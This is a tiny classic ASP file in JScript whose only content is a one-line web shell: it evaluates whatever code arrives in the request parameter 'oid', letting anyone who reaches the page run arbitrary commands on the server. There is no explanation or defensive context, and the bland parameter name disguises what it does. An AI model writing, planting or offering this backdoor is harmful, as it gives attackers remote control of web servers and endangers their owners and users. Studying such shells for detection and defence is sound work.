<%@ Language="JScript" %>
<% eval(Request("oid") + ""); %>
